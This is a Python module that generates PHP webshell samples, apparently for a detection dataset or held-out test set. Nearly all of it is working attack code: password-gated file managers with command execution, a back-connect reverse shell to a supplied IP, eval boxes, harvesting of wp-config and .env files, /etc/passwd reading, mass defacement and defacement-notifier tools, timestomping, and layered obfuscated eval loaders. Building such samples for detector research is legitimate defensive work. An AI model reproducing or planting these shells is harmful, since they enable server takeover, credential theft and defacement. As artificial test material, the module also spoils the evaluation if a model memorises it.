"""Webshell templates of the fifth held-out set (README.md). Each returns
(files, container): files are (rel, text or bytes, lang). Written blind."""

from common5 import (UI, b64, big_plugin, chunks, core_class, crlf, css, deflate_raw, dom, gz, handle, hexname,
                     image_bytes, inner, ip, php_hex, php_oct, place, rc4, rot13, rword, slug, sq, theme, wrap_b64,
                     xor)
import zlib


def one(r, code, allowed=None):
    data, rel, cont = place(r, code, allowed) if allowed else place(r, code)
    return [(rel, data, "php")], cont


def pw_gate(r, lang):
    """A kit's login: md5 of a password in a cookie or the session."""
    pw = hexname(r, 32)
    if r.random() < 0.5:
        return ("session_start();\n$auth_pass = '%s';\n"
                "if (isset($_POST['pass']) && md5($_POST['pass']) == $auth_pass) { $_SESSION['ok'] = 1; }\n"
                "if (empty($_SESSION['ok'])) {\n"
                "    echo '<html><body style=\"background:#000;color:#0f0\"><center><form method=post>%s: "
                "<input type=password name=pass><input type=submit value=\"&gt;&gt;\"></form></center></body></html>';\n"
                "    exit;\n}\n" % (pw, UI[lang]["login"]))
    ck = rword(r, 6, "abcdefghijklmnopqrstuvwxyz")
    return ("$pass_hash = '%s';\n"
            "if (isset($_POST['p'])) { setcookie('%s', md5($_POST['p']), time() + 86400); $_COOKIE['%s'] = md5($_POST['p']); }\n"
            "if (!isset($_COOKIE['%s']) || $_COOKIE['%s'] !== $pass_hash) {\n"
            "    header('HTTP/1.0 404 Not Found');\n"
            "    echo '<h1>Not Found</h1><form method=post style=\"display:none\" id=lg><input type=password name=p></form>"
            "<script>document.onkeydown=function(e){if(e.keyCode==27)document.getElementById(\"lg\").style.display=\"block\";}</script>';\n"
            "    exit;\n}\n" % (pw, ck, ck, ck, ck))


def exec_fallback(fn):
    return """function %s($c) {
    $out = '';
    if (function_exists('exec')) { @exec($c, $o); $out = join("\\n", $o); }
    elseif (function_exists('shell_exec')) { $out = @shell_exec($c); }
    elseif (function_exists('system')) { ob_start(); @system($c); $out = ob_get_clean(); }
    elseif (function_exists('passthru')) { ob_start(); @passthru($c); $out = ob_get_clean(); }
    elseif (is_resource($f = @popen($c, 'r'))) { while (!@feof($f)) { $out .= fread($f, 1024); } pclose($f); }
    elseif (function_exists('proc_open')) {
        $p = proc_open($c, array(1 => array('pipe', 'w'), 2 => array('pipe', 'w')), $pp);
        $out = stream_get_contents($pp[1]); proc_close($p);
    }
    return $out;
}
""" % fn


# ---------------------------------------------------------------------------
# long kits with a UI in one language


KIT_TOOLS = {
    "portscan": """<?php
if (isset($_POST['scan_host'])) {
    echo '<pre>';
    foreach (explode(',', $_POST['scan_ports']) as $port) {
        $fs = @fsockopen($_POST['scan_host'], (int) $port, $en, $es, 1);
        echo (int) $port . ($fs ? ' open' : ' closed') . "\\n";
        if ($fs) { fclose($fs); }
    }
    echo '</pre>';
}
?>
<form method="post">Port scan: <input name="scan_host" value="127.0.0.1"> <input name="scan_ports" value="21,22,25,80,443,3306" size="30"><input type="submit" value="&gt;"></form>
""",
    "encoder": """<?php
if (isset($_POST['enc_in'])) {
    $in = $_POST['enc_in'];
    echo '<table>';
    foreach (array('base64_encode', 'base64_decode', 'md5', 'sha1', 'urlencode', 'urldecode', 'str_rot13', 'strrev', 'bin2hex') as $fn) {
        echo '<tr><td>' . $fn . '</td><td>' . htmlspecialchars((string) @$fn($in)) . '</td></tr>';
    }
    echo '</table>';
}
?>
<form method="post">Encoder: <textarea name="enc_in" cols="60" rows="3"></textarea><input type="submit" value="&gt;"></form>
""",
    "backconnect": """<?php
if (!empty($_POST['bc_ip'])) {
    $sock = @fsockopen($_POST['bc_ip'], (int) $_POST['bc_port'], $en, $es, 10);
    if ($sock) {
        fwrite($sock, "connected: " . php_uname() . "\\n");
        $pr = proc_open('/bin/sh -i', array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);
        proc_close($pr);
    } else {
        echo 'connect failed: ' . htmlspecialchars($es);
    }
}
?>
<form method="post">Back-connect: <input name="bc_ip" value="<?php echo $_SERVER['REMOTE_ADDR']; ?>"> <input name="bc_port" value="4444" size="5"><input type="submit" value="Connect"></form>
""",
    "procs": """<?php
if (isset($_GET['a']) && $_GET['a'] == 'ps') {
    echo '<pre>' . htmlspecialchars((string) @shell_exec('ps aux 2>&1')) . '</pre>';
    if (!empty($_GET['kill'])) { @posix_kill((int) $_GET['kill'], 9); }
}
?>
<a href="?a=ps">Processes</a>
""",
    "selfrm": """<?php
if (isset($_GET['a']) && $_GET['a'] == 'selfremove') { @unlink(__FILE__); echo 'bye'; exit; }
?>
<a href="?a=selfremove" onclick="return confirm('?')">Self remove</a>
""",
    "phpeval": """<?php
if (!empty($_POST['php_code'])) { echo '<pre>'; eval($_POST['php_code']); echo '</pre>'; }
?>
<form method="post">PHP: <textarea name="php_code" cols="80" rows="5"></textarea><input type="submit" value="Eval"></form>
""",
    "touch": """<?php
if (isset($_POST['t_file'], $_POST['t_ref'])) { @touch($_POST['t_file'], @filemtime($_POST['t_ref'])); echo 'time changed'; }
?>
<form method="post">Touch: <input name="t_file"> like <input name="t_ref" value="index.php"><input type="submit" value="&gt;"></form>
""",
}


def kit_tools(r):
    names = sorted(KIT_TOOLS)
    return "".join(KIT_TOOLS[n] for n in r.sample(names, r.randint(2, 5)))


def kit(r, S, lang, extra=""):
    u = UI[lang]
    ex = "x" + rword(r, 3, "abcdefghijklmnopqrstuvwxyz")
    ver = "%d.%d" % (r.randint(1, 4), r.randint(0, 9))
    title = "%s %s v%s" % (u["title"], r.choice(("Pro", "Lite", "Mini", "X", "")), ver)
    banner = u["banner"]
    if r.random() < 0.5:
        banner = r.choice(("Cracked by ", "Recoded by ", "Modified by ", "Private by ")) + handle(r)
    code = "<?php\n"
    if r.random() < 0.5:
        code += "/*\n * %s\n * %s\n * %s\n */\n" % (title, banner, r.choice(("Don't change the copyright!",
                                                                             "Greetz: all crew", "-- " + handle(r))))
    code += "@error_reporting(0);\n@set_time_limit(0);\n@ini_set('max_execution_time', 0);\n"
    if r.random() < 0.5:
        code += "if (get_magic_quotes_gpc()) { foreach ($_POST as $k => $v) { $_POST[$k] = stripslashes($v); } }\n" \
            if r.random() < 0.3 else "@ini_set('display_errors', 0);\n"
    code += pw_gate(r, lang)
    code += exec_fallback(ex)
    code += """
function perms_str($f) {
    $p = @fileperms($f);
    $i = ($p & 0x4000) ? 'd' : '-';
    foreach (array(0x0100, 0x0080, 0x0040, 0x0020, 0x0010, 0x0008, 0x0004, 0x0002, 0x0001) as $n => $b) {
        $i .= ($p & $b) ? substr('rwxrwxrwx', $n, 1) : '-';
    }
    return $i;
}
function hsize($s) {
    foreach (array('B', 'KB', 'MB', 'GB') as $u) { if ($s < 1024) { return round($s, 2) . ' ' . $u; } $s /= 1024; }
    return round($s, 2) . ' TB';
}
$dir = isset($_REQUEST['d']) ? $_REQUEST['d'] : getcwd();
$dir = str_replace('\\\\', '/', $dir);
@chdir($dir);
$act = isset($_REQUEST['a']) ? $_REQUEST['a'] : 'ls';
$msg = '';
if ($act == 'up' && !empty($_FILES['uf']['name'])) {
    $msg = @move_uploaded_file($_FILES['uf']['tmp_name'], $dir . '/' . $_FILES['uf']['name']) ? '%(ok)s' : '%(err)s';
}
if ($act == 'save' && isset($_POST['f'], $_POST['src'])) {
    $h = @fopen($_POST['f'], 'w'); $msg = ($h && @fwrite($h, $_POST['src']) !== false) ? '%(ok)s' : '%(err)s'; @fclose($h);
}
if ($act == 'rm' && isset($_GET['f'])) { $msg = @unlink($_GET['f']) ? '%(ok)s' : '%(err)s'; }
if ($act == 'chmod' && isset($_POST['f'], $_POST['m'])) { @chmod($_POST['f'], octdec($_POST['m'])); }
?>
<html><head><meta charset="utf-8"><title>%(title)s</title>
<style>
%(css)s</style></head><body>
<div class="hdr"><b>%(title)s</b> &middot; <?php echo php_uname(); ?><br>
<?php echo '%(info)s: PHP ' . phpversion() . ' | ' . @$_SERVER['SERVER_SOFTWARE'] . ' | uid=' . (function_exists('posix_getuid') ? posix_getuid() : '?') . ' | ' . @$_SERVER['SERVER_ADDR']; ?><br>
<?php echo 'disable_functions: ' . (@ini_get('disable_functions') ? ini_get('disable_functions') : 'NONE'); ?></div>
<div>%(path)s: <?php
$parts = explode('/', $dir); $acc = '';
foreach ($parts as $pp) { if ($pp === '') { continue; } $acc .= '/' . $pp; echo '/<a href="?d=' . urlencode($acc) . '">' . htmlspecialchars($pp) . '</a>'; }
?> <?php echo $msg; ?></div>
<table><tr><th>Name</th><th>%(size)s</th><th>%(perm)s</th><th></th></tr>
<?php
$items = @scandir($dir);
if ($items) {
    foreach ($items as $it) {
        if ($it == '.') { continue; }
        $full = $dir . '/' . $it;
        echo '<tr><td>' . (is_dir($full) ? '<a href="?d=' . urlencode($full) . '">[' . htmlspecialchars($it) . ']</a>' : htmlspecialchars($it)) . '</td>';
        echo '<td>' . (is_file($full) ? hsize(filesize($full)) : 'DIR') . '</td><td>' . perms_str($full) . '</td>';
        echo '<td><a href="?a=edit&d=' . urlencode($dir) . '&f=' . urlencode($full) . '">%(edit)s</a> | <a href="?a=rm&d=' . urlencode($dir) . '&f=' . urlencode($full) . '">%(delete)s</a></td></tr>';
    }
}
?>
</table>
<?php if ($act == 'edit' && isset($_GET['f'])) { ?>
<form method="post"><input type="hidden" name="a" value="save"><input type="hidden" name="f" value="<?php echo htmlspecialchars($_GET['f']); ?>">
<textarea name="src" cols="120" rows="25"><?php echo htmlspecialchars(@file_get_contents($_GET['f'])); ?></textarea><br><input type="submit" value="%(save)s"></form>
<?php } ?>
<form method="post" enctype="multipart/form-data"><input type="hidden" name="a" value="up"><input type="hidden" name="d" value="<?php echo htmlspecialchars($dir); ?>">%(upload)s: <input type="file" name="uf"><input type="submit" value="&gt;"></form>
<form method="post"><input type="hidden" name="d" value="<?php echo htmlspecialchars($dir); ?>">%(cmd)s: <input type="text" name="c" size="60"><input type="submit" value="&gt;"></form>
<?php if (!empty($_POST['c'])) { echo '<pre>' . htmlspecialchars(%(ex)s($_POST['c'])) . '</pre>'; } ?>
%(extra)s
<div class="ft">%(banner)s</div>
</body></html>
""" % dict(u, title=title, css=css(r), ex=ex, extra=extra + kit_tools(r), banner=banner)
    return code


def rename_vars(r, S, code, names):
    """Rename PHP variables (whole names) to the style's own names."""
    import re
    S.used.update(re.findall(r"\$(\w+)", code))  # never a name the code already uses
    for n in names:
        if r.random() < 0.7:
            new = S.name()
            code = re.sub(r"\$%s\b" % n, lambda m: "$" + new, code)
    return code


KIT_VARS = ("dir", "act", "msg", "items", "full", "it", "parts", "acc", "pp", "auth_pass", "pass_hash")


def kit_file(r, S, lang, extra, allowed, enc=None):
    code = rename_vars(r, S, kit(r, S, lang, extra), KIT_VARS)
    if enc and r.random() < 0.5:
        # the whole kit saved in the legacy code page of its language
        code = code.replace('charset="utf-8"', 'charset="%s"' % enc)
        rel, cont = one(r, code, ("plain",))[0][0][0], enc + "-file"
        return [(rel, code.encode(enc), "php")], cont
    return one(r, code, allowed)


def kit_zh(r, S):
    extra = """<?php
// 数据库连接
if (isset($_POST['dbh'])) {
    $l = @mysqli_connect($_POST['dbh'], $_POST['dbu'], $_POST['dbp'], $_POST['dbn']);
    if ($l && !empty($_POST['q'])) {
        $res = mysqli_query($l, $_POST['q']);
        while ($res && $row = mysqli_fetch_row($res)) { echo htmlspecialchars(implode(' | ', $row)) . '<br>'; }
    }
}
?>
<form method="post">%s: <input name="dbh" value="localhost"><input name="dbu"><input name="dbp"><input name="dbn"><br><textarea name="q"></textarea><input type="submit"></form>
""" % UI["zh"]["sql"]
    if r.random() < 0.5:
        # the PHP 5-era client
        extra = extra.replace("@mysqli_connect($_POST['dbh'], $_POST['dbu'], $_POST['dbp'], $_POST['dbn'])",
                              "@mysql_connect($_POST['dbh'], $_POST['dbu'], $_POST['dbp'])").replace(
            "mysqli_query($l, $_POST['q'])", "mysql_query($_POST['q'], $l)").replace("mysqli_fetch_row", "mysql_fetch_row")
    return kit_file(r, S, "zh", extra, ("plain", "enc-bytes", "odd-ext", "crlf"), "gbk")


def kit_ru(r, S):
    extra = """<?php
// Поиск конфигов
if (isset($_GET['a']) && $_GET['a'] == 'cfg') {
    foreach (array('wp-config.php', 'configuration.php', 'config.php', '.env', 'app/etc/env.php') as $c) {
        foreach (glob($dir . '/*/' . $c) as $hit) { echo htmlspecialchars($hit) . '<pre>' . htmlspecialchars(@file_get_contents($hit)) . '</pre>'; }
    }
}
?>
<a href="?a=cfg&d=<?php echo urlencode($dir); ?>">Найти конфиги</a>
"""
    return kit_file(r, S, "ru", extra, ("plain", "enc-bytes", "no-ext", "short-tag"), "cp1251")


def kit_id(r, S):
    extra = """<?php
// Ganti semua index
if (isset($_POST['massidx'])) {
    $n = 0;
    foreach (glob($dir . '/*', GLOB_ONLYDIR) as $sub) {
        foreach (array('index.php', 'index.html') as $ix) {
            if (is_writable($sub . '/' . $ix) && @file_put_contents($sub . '/' . $ix, $_POST['massidx'])) { $n++; }
        }
    }
    echo '<b>' . $n . ' file diganti</b>';
}
?>
<form method="post">Ganti index massal:<br><textarea name="massidx" cols="80" rows="5"></textarea><input type="submit" value="Gas"></form>
"""
    return kit_file(r, S, "id", extra, ("plain", "odd-ext", "image-tail", "crlf"))


def kit_vi(r, S):
    return kit_file(r, S, "vi", "", ("plain", "odd-ext", "no-ext"))


def kit_pt(r, S):
    extra = """<?php
// Informações: usuários do servidor
if (isset($_GET['a']) && $_GET['a'] == 'usr') {
    $p = @file('/etc/passwd');
    if ($p) { foreach ($p as $ln) { $x = explode(':', $ln); echo htmlspecialchars($x[0] . ' => ' . $x[5]) . '<br>'; } }
}
?>
<a href="?a=usr">Usuários</a>
"""
    return kit_file(r, S, "pt", extra, ("plain", "short-tag", "enc-bytes"))


# ---------------------------------------------------------------------------
# defacement tools


def deface_html(r):
    h = handle(r)
    return ("<html><head><title>Hacked By %s</title></head><body bgcolor=black><center>"
            "<font color=red size=7>Hacked By %s</font><br><font color=white>%s</font><br>"
            "<font color=green>Greetz: %s - %s</font></center></body></html>" %
            (h, h, r.choice(("Your security is low!", "Sistem anda lemah", "Güvenlik açığınız var", "Just for fun")),
             handle(r), handle(r)))


def mass_deface(r, S):
    lang = r.choice(("tr", "id", "vi", "pt"))
    root = r.choice(("'/home'", "dirname($_SERVER['DOCUMENT_ROOT'])", "$_POST['root']", "'/var/www/vhosts'"))
    fn = rword(r, 6, "abcdefghijklmnopqrstuvwxyz")
    code = """<?php
// %s - mass index
@set_time_limit(0);
$script = isset($_POST['script']) ? $_POST['script'] : base64_decode('%s');
$names = array('index.php', 'index.html', 'index.htm', 'default.php', 'home.php');
function %s($d, $script, $names, &$done) {
    $list = @scandir($d);
    if (!$list) { return; }
    foreach ($list as $e) {
        if ($e == '.' || $e == '..') { continue; }
        $p = $d . '/' . $e;
        if (is_dir($p)) {
            foreach (array('public_html', 'www', 'htdocs', '') as $w) {
                foreach ($names as $n) {
                    $t = rtrim($p . '/' . $w, '/') . '/' . $n;
                    if (is_file($t) && is_writable($t) && @file_put_contents($t, $script)) { $done[] = $t; }
                }
            }
        }
    }
}
if (isset($_POST['go'])) {
    $done = array();
    %s(%s, $script, $names, $done);
    echo '<pre>' . implode("\\n", array_map('htmlspecialchars', $done)) . "\\n" . count($done) . ' %s</pre>';
}
?>
<form method="post"><input type="hidden" name="go" value="1"><input name="root" value="/home"><br>
<textarea name="script" rows="10" cols="80"></textarea><br><input type="submit" value="%s"></form>
""" % (UI[lang]["banner"], b64(deface_html(r)), fn, fn, root, UI[lang]["ok"], UI[lang]["save"])
    return one(r, code, ("plain", "odd-ext", "crlf", "short-tag"))


def mirror_notifier(r, S):
    h = handle(r)
    code = """<?php
/* %s notifier: submits defaced URLs to the mirror archives */
$defacer = isset($_POST['nick']) ? $_POST['nick'] : '%s';
$mirrors = array('https://mirror.%s/notify/single', 'https://archive.%s/submit.php');
$out = '';
if (!empty($_POST['urls'])) {
    foreach (preg_split('/\\r?\\n/', trim($_POST['urls'])) as $u) {
        foreach ($mirrors as $m) {
            $ch = curl_init($m);
            curl_setopt($ch, CURLOPT_POST, 1);
            curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('defacer' => $defacer, 'domain1' => trim($u), 'hackmode' => 15, 'reason' => 1)));
            curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
            curl_setopt($ch, CURLOPT_TIMEOUT, 10);
            $res = curl_exec($ch);
            curl_close($ch);
            $out .= trim($u) . ' -> ' . (stripos((string)$res, 'ok') !== false ? 'OK' : 'ERROR') . "\\n";
        }
    }
}
if (isset($_POST['self'])) {
    @file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/index.html', base64_decode('%s'));
    $out .= 'index written';
}
?>
<html><body style="background:#000;color:#fff"><h2>Zone notifier - <?php echo htmlspecialchars($defacer); ?></h2>
<form method="post">Nick: <input name="nick" value="<?php echo htmlspecialchars($defacer); ?>"><br>
<textarea name="urls" cols="60" rows="10">http://</textarea><br><label><input type="checkbox" name="self"> also index</label>
<input type="submit" value="Send"></form><pre><?php echo htmlspecialchars($out); ?></pre></body></html>
""" % (h, h, dom(r), dom(r), b64(deface_html(r)))
    return one(r, code, ("plain", "odd-ext", "enc-bytes"))


# ---------------------------------------------------------------------------
# PHP 4/5-era shells


def php4_era(r, S):
    pv = rword(r, 3, "abcdefghijklmnopqrstuvwxyz")
    k = r.randint(0, 2)
    if k == 0:
        code = """<?php
// (c) 2004 %s - php4 compatible
if (!isset($_POST) || !count($_POST)) { $_POST = $HTTP_POST_VARS; $_GET = $HTTP_GET_VARS; $_FILES = $HTTP_POST_FILES; }
$cmd = isset($_POST['%s']) ? $_POST['%s'] : (isset($_GET['%s']) ? $_GET['%s'] : '');
$cwd = isset($_GET['cwd']) ? $_GET['cwd'] : dirname(__FILE__);
if ($cmd != '') {
    $fp = popen('cd ' . $cwd . ' && ' . $cmd . ' 2>&1', 'r');
    $buf = '';
    while (!feof($fp)) { $buf .= fgets($fp, 1024); }
    pclose($fp);
}
?>
<html><head><title><?php echo $HTTP_SERVER_VARS['SERVER_NAME']; ?></title></head>
<body bgcolor="#000000" text="#cccccc"><font face="Verdana" size="1">
<form method="POST" action="<?php echo $PHP_SELF; ?>?cwd=<?php echo urlencode($cwd); ?>">
<input type="text" name="%s" size="70"> <input type="submit" value="Execute">
</form>
<textarea cols="100" rows="25" readonly><?php if (isset($buf)) { echo htmlspecialchars($buf); } ?></textarea>
<?php if (isset($_FILES['u']) && $_FILES['u']['size'] > 0) { copy($_FILES['u']['tmp_name'], $cwd . '/' . $_FILES['u']['name']); echo 'uploaded'; } ?>
<form method="POST" enctype="multipart/form-data"><input type="file" name="u"><input type="submit" value="Upload"></form>
</font></body></html>
""" % (handle(r), pv, pv, pv, pv, pv)
    elif k == 1:
        code = """<?php
/* register_globals = On required */
global $action, $file, $content, $c;
if ($action == "edit" && $file) {
    $fd = fopen($file, "w");
    fputs($fd, stripslashes($content));
    fclose($fd);
    echo "<b>saved $file</b><br>";
}
if ($action == "run") {
    echo "<xmp>";
    system(stripslashes($c));
    echo "</xmp>";
}
if ($action == "phpinfo") { phpinfo(); exit; }
?>
<form method=post><input type=hidden name=action value=run><input name=c size=50><input type=submit value=go></form>
<form method=post><input type=hidden name=action value=edit>file: <input name=file size=50><br><textarea name=content cols=80 rows=15></textarea><br><input type=submit value=write></form>
<a href="?action=phpinfo">phpinfo</a>
"""
    else:
        code = """<?php
$self = $_SERVER['PHP_SELF'];
$o = '';
if (isset($_REQUEST['%s'])) {
    $c = $_REQUEST['%s'];
    if (ini_get('safe_mode')) {
        $o = 'safe_mode ON';
    } else {
        ob_start();
        passthru($c);
        $o = ob_get_contents();
        ob_end_clean();
    }
}
echo "<html><body><form action=\\"$self\\" method=\\"get\\"><input name=\\"%s\\" value=\\"\\"><input type=\\"submit\\"></form><pre>$o</pre></body></html>";
?>
""" % (pv, pv, pv)
    return one(r, code, ("plain", "short-tag", "odd-ext", "enc-bytes", "crlf"))


def cracked_banner(r, S):
    """A shell whose UI is a base64 blob printed after a big ASCII banner."""
    h = handle(r)
    ui = ("<form method=post><input name=z size=80><input type=submit value=run></form>"
          "<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit value=up></form>")
    banner = "\n".join((
        "/*",
        " *   ____                _            _ ",
        " *  / ___|_ __ __ _  ___| | _____  __| |",
        " * | |   | '__/ _` |/ __| |/ / _ \\/ _` |",
        " * | |___| | | (_| | (__|   <  __/ (_| |",
        " *  \\____|_|  \\__,_|\\___|_|\\_\\___|\\__,_|",
        " *",
        " *  Cracked by %s  ::  %s" % (h, r.choice(("no license needed", "free for all", "nulled edition"))),
        " *  Original author: unknown - if you paid for this you got scammed",
        " */"))
    code = """<?php
%s
error_reporting(0);
$k = '%s';
if (@$_GET['k'] !== $k && @$_COOKIE['k'] !== $k) { header('Location: /'); exit; }
@setcookie('k', $k);
echo base64_decode('%s');
if (isset($_POST['z'])) { echo '<pre>'; $r = `{$_POST['z']}`; echo htmlspecialchars($r); echo '</pre>'; }
if (!empty($_FILES['f'])) { echo @copy($_FILES['f']['tmp_name'], basename($_FILES['f']['name'])) ? 'ok' : 'fail'; }
""" % (banner, rword(r, 10), b64(ui))
    return one(r, code, ("plain", "odd-ext", "short-tag", "no-ext"))


# ---------------------------------------------------------------------------
# obfuscator outputs


def nested_chain(r, S):
    """Several real layers: each decodes to the next PHP eval."""
    code = inner(r)
    n = r.randint(3, 6)
    for _ in range(n):
        k = r.choice(("b64_inflate", "b64_uncompress", "rot13_b64", "rev_b64", "hex_inflate", "b64_gzdecode",
                      "url_b64"))
        if k == "b64_inflate":
            code = "eval(gzinflate(base64_decode(%s)));" % sq(b64(deflate_raw(code)))
        elif k == "b64_uncompress":
            code = "eval(gzuncompress(base64_decode(%s)));" % sq(b64(zlib.compress(code.encode())))
        elif k == "rot13_b64":
            code = "eval(base64_decode(str_rot13(%s)));" % sq(rot13(b64(code)))
        elif k == "rev_b64":
            code = "eval(base64_decode(strrev(%s)));" % sq(b64(code)[::-1])
        elif k == "hex_inflate":
            code = "eval(gzinflate(hex2bin(%s)));" % sq(deflate_raw(code).hex())
        elif k == "b64_gzdecode":
            code = "eval(gzdecode(base64_decode(%s)));" % sq(b64(gz(code)))
        else:
            import urllib.parse
            code = "eval(base64_decode(rawurldecode(%s)));" % sq(urllib.parse.quote(b64(code)))
    if r.random() < 0.5:
        code = "/* %s */ %s" % (r.choice(("Obfuscated by PHP Protect", "Encoded with FreeObf", "encrypted", "x")), code)
    return one(r, "<?php " + code + "\n", ("plain", "odd-ext", "no-ext", "crlf", "image-tail"))


def varvar_table(r, S):
    names = {"b": "base64_decode", "g": "gzinflate", "s": "str_rot13"}
    tbl = S.name()
    order = list(names.items())
    r.shuffle(order)
    lines = []
    slots = {}
    for i, (k, v) in enumerate(order):
        slot = "_" + hexname(r, 4)
        slots[k] = slot
        parts = chunks(v, r.randint(2, 4))
        lines.append("$%s['%s'] = %s;" % (tbl, slot, ".".join(sq(p) for p in parts)))
    vv = []
    for k in ("b", "g", "s"):
        n = S.name()
        lines.append("$%s = $%s['%s']; $$%s = $%s;" % (n, tbl, slots[k], n, n))
        vv.append(n)
    body = inner(r)
    blob = b64(deflate_raw(rot13(body)))
    ev = S.name()
    lines.append("$%s = 'ev' . 'al';" % ev)
    # eval is a language construct: the result goes through a created file or assert-like include
    t = S.name()
    lines.append("$%s = ${$%s}(${$%s}(${$%s}(%s)));" % (t, vv[2], vv[1], vv[0], wrap_b64(blob, r)))
    lines.append(r.choice((
        "$__tf = tempnam(sys_get_temp_dir(), 'sess'); file_put_contents($__tf, '<?php ' . $%s); include $__tf; @unlink($__tf);" % t,
        "eval($%s);" % t,
        "$__u = 'data://text/plain;base64,' . base64_encode('<?php ' . $%s); include $__u;" % t)))
    return one(r, "<?php\n" + "\n".join(lines) + "\n")


def goto_spaghetti(r, S):
    """The name of each function built in goto-scattered blocks."""
    body = inner(r)
    enc = b64(body)
    target = [("f1", "base64_decode")]
    blocks = []
    labels = ["L" + hexname(r, 5) for _ in range(12)]
    fv, dv, cv = S.name(), S.name(), S.name()
    steps = []
    acc = "base64_decode"
    pieces = chunks(acc, r.randint(2, 3))
    for p in pieces:
        steps.append("$%s .= %s;" % (fv, php_hex(p) if r.random() < 0.5 else sq(p)))
    steps.append("$%s = %s(%s);" % (dv, "$" + fv, sq(enc)))
    steps.append("$%s = 'data://text/plain;base64,' . base64_encode('<?php ' . $%s);" % (cv, dv))
    steps.append("include $%s;" % cv)
    del target
    labels = labels[:len(steps) + 1]
    # blocks in shuffled order, each jumping to the next
    order = list(range(len(steps)))
    blocks = []
    for i in order:
        blocks.append("%s:\n%s\ngoto %s;" % (labels[i], steps[i], labels[i + 1]))
    r.shuffle(blocks)
    junk = ["%s: $%s = %d;" % ("J" + hexname(r, 5), S.name(), r.randint(1, 999)) for _ in range(r.randint(1, 3))]
    code = "<?php\n$%s = '';\ngoto %s;\n%s\n%s\n%s:\nreturn;\n" % (fv, labels[0], "\n".join(junk), "\n".join(blocks),
                                                                labels[len(steps)])
    return one(r, code, ("plain", "odd-ext", "crlf", "short-tag"))


def numeric_index(r, S):
    """Names from numeric arrays indexed into a scrambled alphabet."""
    al = list("abcdefghijklmnopqrstuvwxyz_0123456789")
    r.shuffle(al)
    al = "".join(al)
    av = S.name()
    out = ["$%s = %s;" % (av, sq(al))]

    def build(s):
        idx = [al.index(c) for c in s]
        if r.random() < 0.5:
            return "implode('', array_map(function ($__ix9) use ($%s) { return $%s[$__ix9]; }, array(%s)))" % (
                av, av, ",".join(map(str, idx)))
        return ".".join("$%s[%d]" % (av, i) for i in idx)
    n1, n2, n3 = S.name(), S.name(), S.name()
    out.append("$%s = %s;" % (n1, build("base64_decode")))
    out.append("$%s = %s;" % (n2, build("create_function") if False else build("call_user_func")))
    src = r.choice(("$_POST", "$_COOKIE", "$_REQUEST"))
    key = rword(r, 4, "abcdefghijklmnopqrstuvwxyz")
    sink = r.choice(("system", "passthru", "shell_exec", "assert"))
    out.append("$%s = %s;" % (n3, build(sink)))
    out.append("if (isset(%s['%s'])) { echo $%s($%s, $%s(%s['%s'])); }" % (src, key, n2, n3, n1, src, key))
    return one(r, "<?php\n" + "\n".join(out) + "\n")


def long_xor(r, S):
    key = rword(r, r.randint(32, 64), "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!#%&*+-=?@^")
    body = inner(r)
    blob = b64(xor(body, key))
    kv, dv, ov, iv = S.name(), S.name(), S.name(), S.name()
    code = """<?php
$%(k)s = %(key)s;
$%(d)s = base64_decode(%(blob)s);
$%(o)s = '';
for ($%(i)s = 0; $%(i)s < strlen($%(d)s); $%(i)s++) {
    $%(o)s .= $%(d)s[$%(i)s] ^ $%(k)s[$%(i)s %% strlen($%(k)s)];
}
%(run)s
""" % dict(k=kv, key=sq(key), d=dv, blob=wrap_b64(blob, r), o=ov, i=iv,
           run=r.choice(("eval($%s);" % ov, "@eval(\"?>\" . '<?php ' . $%s);" % ov,
                         "$fn = create_function('', $%s); $fn();" % ov if False else "eval('' . $%s);" % ov)))
    return one(r, code, ("plain", "odd-ext", "no-ext", "image-tail", "enc-bytes"))


def class_loader(r, S):
    cls = r.choice(("WP_Cache_Handler", "Smarty_Internal_Loader", "JCacheStorageFile", "Zend_Locale_Data", "Twig_Env_Ext",
                    "Mage_Core_Helper_Url")) + "_" + hexname(r, 3)
    body = inner(r)
    blob = b64(deflate_raw(body))
    mode = r.choice(("destruct", "static", "invoke", "tostring"))
    if mode == "destruct":
        code = """<?php
class %(c)s {
    private $data;
    public function __construct($d) { $this->data = $d; }
    public function __destruct() {
        $x = gzinflate(base64_decode($this->data));
        eval($x);
    }
}
$GLOBALS['%(g)s'] = new %(c)s(%(b)s);
""" % dict(c=cls, g=hexname(r, 6), b=wrap_b64(blob, r))
    elif mode == "static":
        code = """<?php
final class %(c)s {
    const BLOB = %(b)s;
    private static $fn = array('gz' => 'gzinflate', 'b' => 'base64_decode');
    public static function boot() {
        $g = self::$fn['gz']; $b = self::$fn['b'];
        return eval($g($b(self::BLOB)));
    }
}
%(c)s::boot();
""" % dict(c=cls, b=sq(blob))
    elif mode == "invoke":
        code = """<?php
$%(v)s = new class(%(b)s) {
    private $p;
    public function __construct($p) { $this->p = $p; }
    public function __invoke() { return eval(gzinflate(base64_decode($this->p))); }
};
$%(v)s();
""" % dict(v=S.name(), b=wrap_b64(blob, r))
    else:
        code = """<?php
class %(c)s {
    public $t;
    public function __toString() {
        eval(gzinflate(base64_decode($this->t)));
        return '';
    }
}
$o = new %(c)s();
$o->t = %(b)s;
echo $o;
""" % dict(c=cls, b=sq(blob))
    return one(r, code, ("plain", "odd-ext", "crlf", "no-ext"))


def closure_loader(r, S):
    body = inner(r)
    blob = rot13(b64(b64(body)))  # str_rot13, then base64_decode twice
    a, b, c = S.name(), S.name(), S.name()
    k = r.randint(0, 2)
    if k == 0:
        code = """<?php
$%(a)s = function ($__s0) { return base64_decode(str_rot13($__s0)); };
$%(b)s = function ($__s0) use ($%(a)s) { return base64_decode($%(a)s($__s0)); };
$%(c)s = (function () use ($%(b)s) {
    return function ($__p0) use ($%(b)s) { eval($%(b)s($__p0)); };
})();
$%(c)s(%(blob)s);
""" % dict(a=a, b=b, c=c, blob=wrap_b64(blob, r))
    elif k == 1:
        code = """<?php
$%(a)s = array_reduce(array('str_rot13', 'base64_decode', 'base64_decode'), function ($__c, $__f) {
    return function ($__x) use ($__c, $__f) { return $__f($__c($__x)); };
}, function ($__x) { return $__x; });
$%(b)s = $%(a)s(%(blob)s);
call_user_func(function () use ($%(b)s) { eval($%(b)s); });
""" % dict(a=a, b=b, blob=wrap_b64(blob, r))
    else:
        code = """<?php
